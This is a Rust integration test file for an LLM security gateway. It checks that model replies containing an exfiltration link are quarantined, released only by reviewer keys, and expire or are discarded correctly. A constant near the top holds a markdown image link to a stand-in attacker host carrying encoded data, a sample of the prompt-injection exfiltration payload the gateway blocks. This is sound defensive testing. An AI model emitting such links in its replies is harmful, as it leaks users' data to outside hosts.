//! Threat quarantine in the gateway, over real sockets: a completion the
//! upstream answers with an exfiltration link is held (`held_for_review`,
//! 422, with the item's id) instead of returned; the tenant's `proxy` keys
//! fetch it from `GET /v1/quarantine/{id}` once a `triage` key released
//! it; a discarded or expired hold answers 410; another tenant's key 404;
//! a `read` key cannot decide. Streams end with a `held_for_review` event.

use std::sync::Arc;

use serde_json::{Value, json};

use crate::common::{self, sse_data};

const EXFIL: &str = "![x](https://evil.example/collect?data=c2VjcmV0IHN0dWZm&u=1)";

fn chat(reply: &str) -> Value {
    json!({"model": "gpt-4o-mini", "x_reply": reply, "messages": [
        {"role": "system", "content": "You are a helpful assistant."},
        {"role": "user", "content": "Summarise the page"}
    ]})
}

async fn start(clock: Arc<llm_sentinel::ManualClock>) -> common::Gw {
    common::start_on_clock(
        |c| {
            c.quarantine.enabled = true;
            c.quarantine.hold_secs = 60;
        },
        |_| {},
        Some(clock),
    )
    .await
}

#[tokio::test]
async fn a_held_completion_is_withheld_then_fetched_once_released_and_gone_once_discarded_or_expired() {
    let clock = Arc::new(llm_sentinel::ManualClock::new(1_764_150_000_000));
    let gw = start(clock.clone()).await;
    let reviewer = gw.make_key(&["triage", "read"]).await;
    let reader = gw.make_key(&["read"]).await;
    let other = gw.make_key_with(&json!({"tenant": "globex", "name": "g", "scopes": ["proxy"]})).await;
    let other = other["key"].as_str().unwrap().to_owned();

    // A clean completion passes as before.
    let ok = gw.post("/v1/chat/completions", &chat("Paris is the capital of France.")).await;
    assert_eq!(ok.status, 200, "{}", ok.text);

    // The flagged one is held: not returned, the id in the error body.
    let reply = format!("Done. {EXFIL}");
    let r = gw.post("/v1/chat/completions", &chat(&reply)).await;
    assert_eq!(r.status, 422, "{}", r.text);
    assert_eq!(r.body["error"]["code"], "held_for_review", "{}", r.text);
    assert!(!r.text.contains("evil.example"), "{}", r.text);
    let id = r.body["error"]["quarantine_id"].as_str().unwrap().to_owned();
    assert_eq!(gw.mock.calls(), 2, "the model was called once per request");

    // Pending: not yet handed out; other tenants do not see it.
    let fetch = |key: String, id: String| {
        let gw = &gw;
        async move { gw.send(reqwest::Method::GET, &format!("/v1/quarantine/{id}"), &key, None).await }
    };
    let pending = fetch(gw.key.clone(), id.clone()).await;
    assert_eq!(
        (pending.status, pending.body["error"]["code"].as_str()),
        (409, Some("pending_review")),
        "{}",
        pending.text
    );
    assert_eq!(fetch(other.clone(), id.clone()).await.status, 404);
    let theirs = gw.send(reqwest::Method::POST, &format!("/api/v1/quarantine/{id}/release"), &other, None).await;
    assert_eq!(theirs.status, 403, "a proxy key is no reviewer: {}", theirs.text);

    // The reviewer reads the whole answer; a read-only key cannot decide.
    let item = gw.send(reqwest::Method::GET, &format!("/api/v1/quarantine/{id}"), &reviewer, None).await;
    assert_eq!((item.body["source"].as_str(), item.body["kind"].as_str()), (Some("gateway"), Some("chat.completion")));
    let held: Value = serde_json::from_str(item.body["content"].as_str().unwrap()).unwrap();
    assert_eq!(held["choices"][0]["message"]["content"], reply.as_str());
    let denied = gw.send(reqwest::Method::POST, &format!("/api/v1/quarantine/{id}/release"), &reader, None).await;
    assert_eq!(denied.status, 403, "{}", denied.text);
    let released = gw.send(reqwest::Method::POST, &format!("/api/v1/quarantine/{id}/release"), &reviewer, None).await;
    assert_eq!(released.status, 200, "{}", released.text);

    // Released: the same tenant's proxy key gets the original answer.
    let got = fetch(gw.key.clone(), id.clone()).await;
    assert_eq!(got.status, 200, "{}", got.text);
    assert_eq!(got.body["id"], "chatcmpl-mock");
    assert_eq!(got.body["choices"][0]["message"]["content"], reply.as_str());
    assert_eq!(fetch(other.clone(), id.clone()).await.status, 404, "still not another tenant's");

    // Discarded: gone.
    let r = gw.post("/v1/chat/completions", &chat(&reply)).await;
    let id2 = r.body["error"]["quarantine_id"].as_str().unwrap().to_owned();
    let body = json!({"reason": "exfiltration"});
    let d = gw.send(reqwest::Method::POST, &format!("/api/v1/quarantine/{id2}/discard"), &reviewer, Some(&body)).await;
    assert_eq!(d.status, 200, "{}", d.text);
    let gone = fetch(gw.key.clone(), id2).await;
    assert_eq!(
        (gone.status, gone.body["error"]["code"].as_str()),
        (410, Some("quarantine_discarded")),
        "{}",
        gone.text
    );

    // Expired on the driven clock (on_expiry = "discard"): gone too.
    let r = gw.post("/v1/chat/completions", &chat(&reply)).await;
    let id3 = r.body["error"]["quarantine_id"].as_str().unwrap().to_owned();
    clock.advance(61_000);
    llmsec_server::service::quarantine::expire_due(&gw.server.state().services).await.unwrap();
    let gone = fetch(gw.key.clone(), id3).await;
    assert_eq!((gone.status, gone.body["error"]["code"].as_str()), (410, Some("quarantine_expired")), "{}", gone.text);

    // The held calls are recorded as blocked, with the code.
    let events = gw.telemetry(4).await;
    let held_events = events.iter().filter(|e| e["data"]["error"] == "held_for_review").count();
    assert_eq!(held_events, 3, "{events:?}");
    assert!(
        events.iter().filter(|e| e["data"]["error"] == "held_for_review").all(|e| e["data"]["status"] == "blocked")
    );
}

#[tokio::test]
async fn a_held_stream_sends_nothing_more_and_ends_with_held_for_review_then_the_whole_answer_is_fetched() {
    let clock = Arc::new(llm_sentinel::ManualClock::new(1_764_150_000_000));
    let gw = start(clock).await;
    let reviewer = gw.make_key(&["triage"]).await;
    let pieces = ["Sure, here you go: ", EXFIL, " more text"];
    let mut body = chat("");
    body["stream"] = json!(true);
    body["x_chunks"] = json!(pieces);
    let r = gw.post("/v1/chat/completions", &body).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(!r.text.contains("evil.example"), "{}", r.text);
    assert!(!r.text.contains("more text"), "nothing after the hold goes out: {}", r.text);
    let datas = sse_data(&r.text);
    let n = datas.len();
    assert_eq!(datas[n - 1], "[DONE]", "{}", r.text);
    let err: Value = serde_json::from_str(&datas[n - 2]).unwrap();
    assert_eq!(err["error"]["code"], "held_for_review", "{}", r.text);
    let id = err["error"]["quarantine_id"].as_str().unwrap().to_owned();

    let path = format!("/api/v1/quarantine/{id}/release");
    let released = gw.send(reqwest::Method::POST, &path, &reviewer, None).await;
    assert_eq!(released.status, 200, "{}", released.text);
    let got = gw.send(reqwest::Method::GET, &format!("/v1/quarantine/{id}"), &gw.key, None).await;
    assert_eq!(got.status, 200, "{}", got.text);
    assert_eq!(got.body["object"], "chat.completion");
    assert_eq!(got.body["id"], "chatcmpl-mock");
    assert_eq!(got.body["choices"][0]["message"]["content"], pieces.concat(), "the whole answer: {}", got.text);
    assert_eq!(got.body["choices"][0]["finish_reason"], "stop");
}
